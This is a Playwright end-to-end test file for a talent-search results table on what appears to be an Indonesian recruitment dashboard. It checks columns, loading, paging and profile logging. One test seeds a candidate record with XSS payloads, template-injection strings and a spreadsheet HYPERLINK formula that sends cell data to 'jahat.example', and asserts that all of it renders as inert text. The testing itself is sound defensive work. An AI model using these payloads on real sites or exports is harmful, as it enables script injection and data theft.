import type { Locator, Page } from '@playwright/test'
import {
  searchQuery,
  chips,
  choose,
  field,
  firstNames,
  form,
  holdRows,
  openTalents,
  pagerText,
  pressSearch,
  results,
  ROWS,
  expectSettled,
} from '../../support/talents'
import { doubleClick, expect, rowOf, test } from '../../support/test'

const table = (page: Page): Locator => page.getByRole('table', { name: 'Cari Talenta' })
const rows = (page: Page): Locator => table(page).locator('tbody').getByRole('row')
const nextPage = (page: Page): Locator => page.getByRole('button', { name: 'Halaman berikutnya' })
const announced = (page: Page): Locator => page.getByRole('status').filter({ hasText: /halaman|tidak ditemukan/ })

const AYU = {
  'Nama depan': 'Ayu',
  'Nama belakang': 'Wulandari',
  'Tanggal lahir': '21/04/1999',
  'Jenis kelamin': 'Wanita',
  Provinsi: 'Jawa Barat',
  'Pendidikan terakhir': 'S1',
  'Institusi pendidikan': 'Institut Teknologi Bandung',
  Jurusan: 'Teknik Informatika',
  'Perusahaan terakhir': 'PT Sinar Digital Nusantara',
  'Posisi terakhir': 'Backend Engineer',
  Kepribadian: 'Conscientiousness Openness',
  Nilai: 'Achievement',
  Minat: 'Investigative Social',
  Interaksi: 'Steadiness',
  Grit: 'High',
  'Meaning Making': 'High',
  Mindset: 'Growth',
  Curiosity: 'High',
  Humility: 'Medium',
  Creativity: 'Medium',
  'Purpose in Life': 'High',
  Klobness: 'High',
  'Kode referal': 'NUSANTARA24',
  Aksi: '',
}
/** A row as a record, with whitespace between tags collapsed; the last column depends on the corporate's referral codes. */
async function record(page: Page, name: string): Promise<Record<string, string>> {
  await expect(page.getByRole('columnheader', { name: 'Kode referal' })).toBeAttached()
  const entries = Object.entries(await rowOf(page, name))
  return Object.fromEntries(entries.map(([header, text]) => [header, text.replace(/\s+/g, ' ').trim()]))
}

test('shows every column of the document, in its order, as text', async ({ page }) => {
  await openTalents(page)
  const ayu = await record(page, 'Ayu')
  expect(ayu).toEqual(AYU)
  expect(Object.keys(ayu)).toEqual(Object.keys(AYU))
  expect(await record(page, 'Bayu')).toMatchObject({ 'Jenis kelamin': 'Pria', Klobness: 'Medium' })
  expect(await record(page, 'Citra')).toMatchObject({ 'Jenis kelamin': 'Wanita', Klobness: 'Low' })

  const { 'Nama depan': _first, 'Nama belakang': _last, Aksi: _action, ...unknown } = await record(page, 'Dian')
  expect(new Set(Object.values(unknown))).toEqual(new Set(['-']))
})

test('shows more than two results of a test as two tags and a count', async ({ page }) => {
  await openTalents(page, '?testPers01=PERS-OPE&testPers01=PERS-EXT&size=50')
  const more = page.getByText('+1', { exact: true })
  const cell = page.getByRole('cell').filter({ has: more }).first()
  const title = await cell.locator('[title]').first().getAttribute('title')
  expect(title?.split(', ')).toHaveLength(3)
  expect((await cell.innerText()).replace(/\s+/g, ' ')).toBe(`${title?.split(', ').slice(0, 2).join(' ')} +1`)
})

test('shows a hostile person as text everywhere', async ({ page, baseURL }) => {
  const foreign: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(baseURL!)) foreign.push(request.url())
  })
  await openTalents(page, '?firstNames=Jahat')
  await expect(rows(page)).toHaveCount(1)
  const row = await record(page, 'Jahat')
  expect(row).toMatchObject({
    'Nama depan': 'Jahat <img src=x onerror="alert(1)">',
    'Nama belakang': '<script>alert("jahat")</script>',
    'Pendidikan terakhir': '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")',
    'Institusi pendidikan': 'W'.repeat(300),
    Jurusan: '<b><i><a href="https://jahat.example/?',
    'Perusahaan terakhir': '"><svg onload=alert(2)>',
    'Posisi terakhir': '{{position}} ${7*7} <%= 7*7 %>',
    Curiosity: 'javascript:alert(3)',
    Humility: 'data:text/html,%3Cscript%3Ealert(5)%3C/script%3E',
    'Kode referal': '<script>alert("jahat")</script>',
  })
  const name = 'Jahat <img src=x onerror="alert(1)"> <script>alert("jahat")</script>'
  await expect(page.getByRole('button', { name: `Lihat profil ${name}`, exact: true })).toBeAttached()
  await expect(page.getByTitle('<script>alert("jahat")</script>').first()).toBeAttached()
  await expect(table(page).locator('img, script, form, b, i, iframe, [onerror], [onload]')).toHaveCount(0)
  // The only link is the name's, to the profile.
  await expect(table(page).locator('a')).toHaveCount(1)
  await expect(table(page).locator('a')).toHaveAttribute('href', /^\/situs\/profile\/USR-[A-Z]+$/)
  // The only graphics are the icons of the actions.
  await expect(table(page).locator('svg:not([aria-hidden=true])')).toHaveCount(0)
  // A word of 300 letters does not push the columns apart, and right-to-left text stays in its cell.
  const widths = await rows(page)
    .first()
    .locator('th, td')
    .evaluateAll((cells) => cells.map((cell) => cell.clientWidth))
  expect(Math.max(...widths)).toBeLessThanOrEqual(250)
  expect(foreign).toEqual([])
})

test.describe('loading', () => {
  test('shows a skeleton for the first rows, and keeps the old ones for later', async ({ page }) => {
    let release = await holdRows(page)
    await page.goto('/dashboard/0/talentsearch?gender=F')
    await expect(table(page)).toHaveAttribute('aria-busy', 'true')
    await expect(table(page).locator('tbody')).toHaveAttribute('aria-hidden', 'true')
    // A column that depends on a separate request.
    await expect(table(page).getByRole('columnheader', { name: 'Kode referal' })).toBeAttached()
    const waiting = await table(page).boundingBox()
    release()
    await expectSettled(page)
    await expect(rows(page)).toHaveCount(10)
    // No layout shift when the rows arrive.
    expect(await table(page).boundingBox()).toEqual(waiting)

    const old = await firstNames(page)
    release = await holdRows(page)
    await page.getByRole('button', { name: 'Halaman terakhir' }).click()
    await expect(table(page)).toHaveAttribute('aria-busy', 'true')
    expect(await firstNames(page)).toEqual(old)
    release()
    await expectSettled(page)
    await expect(pagerText(page, 'Halaman 95 dari 95')).toBeVisible()
    await expect(rows(page)).toHaveCount(6)
  })

  test('shows no pager when the awaited page is past the end of the previous search', async ({ page }) => {
    await openTalents(page, '?page=150')
    await expect(page.getByText(/^Halaman 150 dari/)).toBeVisible()
    await field(page, 'Nama depan').fill('Ayu')
    await pressSearch(page)
    await expect(page.getByText(/^Halaman 1 dari/)).toBeVisible()
    await page.reload()
    await expectSettled(page)
    const release = await holdRows(page)
    await page.goBack()
    await expect(results(page)).toContainText('Mencari...')
    await expect(page.getByText(/^Halaman 150 dari/)).toHaveCount(0)
    release()
    await expect(page.getByText(/^Halaman 150 dari/)).toBeVisible()
  })

  test('loads the options of a list when its field is approached, or when the URL needs them', async ({
    page,
    world,
  }) => {
    await page.goto('/dashboard/0/talentsearch')
    await expectSettled(page)
    const lists = () => world.calls('getConsoleMasterData')
    expect(await lists()).toHaveLength(0)
    await form(page).getByRole('heading', { name: 'Informasi dasar' }).click()
    await field(page, 'Nama depan').fill('Ayu')
    await pressSearch(page)
    await expect(chips(page)).toHaveText(['Nama depan: Ayu'])
    await expectSettled(page)
    expect(await lists()).toHaveLength(0)
    // Hovering the field is enough.
    await field(page, 'Negara domisili', 'combobox').hover()
    await expect.poll(async () => (await lists()).length).toBe(1)
    await choose(page, 'Negara domisili', 'Indonesia')
    expect(await lists()).toHaveLength(1)

    const release = await holdRows(page)
    await page.goto('/dashboard/0/talentsearch?provinc=ID-JB')
    await expect(chips(page)).toHaveText(['Provinsi domisili: Jawa Barat'])
    release()
    await expectSettled(page)
  })

  test('prefetches the next page', async ({ page, world }) => {
    await openTalents(page, '?gender=F')
    await expect.poll(async () => (await world.calls(ROWS)).map(startOf)).toEqual(['0', '1'])
    await world.forget()
    await nextPage(page).click()
    await expect(pagerText(page, 'Halaman 2 dari 95')).toBeVisible()
    await expectSettled(page)
    // Only the page after it is requested.
    await expect.poll(async () => (await world.calls(ROWS)).map(startOf)).toEqual(['2'])
  })

  test('never shows an answer for one corporate under another', async ({ page }) => {
    await openTalents(page, '?gender=F')
    const release = await holdRows(page)
    const givenUp = page.waitForEvent('requestfailed', (request) => request.url().includes('start=94'))
    await page.getByRole('button', { name: 'Halaman terakhir' }).click()
    await expect(table(page)).toHaveAttribute('aria-busy', 'true')
    await page.evaluate(() => {
      history.pushState({}, '', '/dashboard/1/talentsearch?firstNames=Citra')
      dispatchEvent(new PopStateEvent('popstate'))
    })
    await expect(page.getByText('PT Samudra Logistik Abadi')).toBeVisible()
    await expect(chips(page)).toHaveText(['Nama depan: Citra'])
    // No rows of the first corporate are shown, and its call is aborted, not just ignored.
    await expect(table(page).locator('tbody')).toHaveAttribute('aria-hidden', 'true')
    await givenUp
    release()
    await expectSettled(page)
    expect((await firstNames(page)).every((name) => name.includes('Citra'))).toBe(true)
  })
})
const startOf = ({ query }: { query: [string, string][] }) => query.find(([name]) => name === 'start')?.[1]

// Keyboard, frozen columns and the choice of columns are the table's, and told by its component test.
test.describe('profile', () => {
  const view = (page: Page) => page.getByRole('button', { name: 'Lihat profil Ayu Wulandari' }).click()

  test('opens in a new tab and is recorded once; a click on the row opens nothing', async ({
    page,
    context,
    world,
  }) => {
    await openTalents(page, '?firstNames=Ayu')
    await page.getByRole('row').nth(1).getByRole('cell').nth(3).click()
    await expect(page).toHaveURL(/talentsearch/)
    expect(context.pages()).toHaveLength(1)
    expect(await world.calls('logTalentProfileView')).toEqual([])
    const opened = context.waitForEvent('page')
    await view(page)
    const tab = await opened
    await expect(tab).toHaveURL(/\/situs\/profile\/USR-AYU$/)
    expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
    const log = 'logTalentProfileView'
    await expect.poll(async () => (await world.calls(log)).map(({ status }) => status)).toEqual([200])
    expect((await world.calls(log))[0]!.body).toEqual({
      jobVacancy: null,
      targetUserId: 'USR-AYU',
      companyId: 'COR0001',
    })
  })

  test('opens one tab on a double click and is recorded once', async ({ page, context, world }) => {
    await openTalents(page, '?firstNames=Ayu')
    const opened = context.waitForEvent('page')
    await doubleClick(page.getByRole('button', { name: 'Lihat profil Ayu Wulandari' }))
    await (await opened).waitForLoadState()
    await expect.poll(async () => (await world.calls('logTalentProfileView')).length).toBe(1)
    expect(context.pages()).toHaveLength(2)
  })

  test('opens from the name with a click, Ctrl and a click, or the middle button, each recorded once', async ({
    page,
    context,
    world,
  }) => {
    for (const press of [{}, { modifiers: ['ControlOrMeta'] }, { button: 'middle' }] as const) {
      await openTalents(page, '?firstNames=Ayu&lastNames=Wulandari')
      await world.forget()
      const opened = context.waitForEvent('page')
      await page
        .getByRole('link', { name: 'Ayu', exact: true })
        .first()
        .click(press as { button?: 'middle' })
      const tab = await opened
      await expect(tab).toHaveURL(/\/situs\/profile\/USR-AYU$/)
      await expect.poll(async () => (await world.calls('logTalentProfileView')).length).toBe(1)
      expect(context.pages()).toHaveLength(2)
      await tab.close()
    }
  })

  test('opens although the record fails, which is not retried', async ({ page, context, world }) => {
    await world.fault({ endpoint: 'logTalentProfileView', kind: 'status', status: 500, times: 0 })
    await openTalents(page, '?firstNames=Ayu')
    const opened = context.waitForEvent('page')
    await view(page)
    await (await opened).waitForLoadState()
    await expect
      .poll(async () => (await world.calls('logTalentProfileView')).map(({ status }) => status))
      .toEqual([500])
    await expect(page.getByRole('alert')).toHaveCount(0)
    await expect(page.getByRole('dialog')).toHaveCount(0)
  })
})

test('announces the results; a search moves the focus to them, paging does not', async ({ page, world }) => {
  await openTalents(page)
  await expect(announced(page)).toHaveText('2.000 orang, halaman 1 dari 200')
  await field(page, 'Nama depan').fill('a')
  await pressSearch(page)
  await expect(results(page)).toBeFocused()
  await expect(results(page)).toBeInViewport()
  await expect(announced(page)).toHaveText(/^[\d.]+ orang, halaman 1 dari \d+$/)
  await nextPage(page).focus()
  await page.keyboard.press('Enter')
  await expect(announced(page)).toHaveText(/halaman 2 dari/)
  await expect(nextPage(page)).toBeFocused()

  // The same search again is sent again, and counts as a search, too.
  await page.getByRole('button', { name: 'Halaman pertama' }).click()
  await expectSettled(page)
  await world.forget()
  await pressSearch(page)
  expect(await searchQuery(world)).toMatchObject({ firstNames: ['a'], start: ['0'] })
  await expect(results(page)).toBeFocused()
  await nextPage(page).click()
  await expect(announced(page)).toHaveText(/halaman 2 dari/)
  await expect(nextPage(page)).toBeFocused()

  await field(page, 'Nama depan').fill('Zzzz')
  await pressSearch(page)
  await expect(announced(page)).toHaveText('Data tidak ditemukan')
  await expect(results(page)).toBeFocused()
})
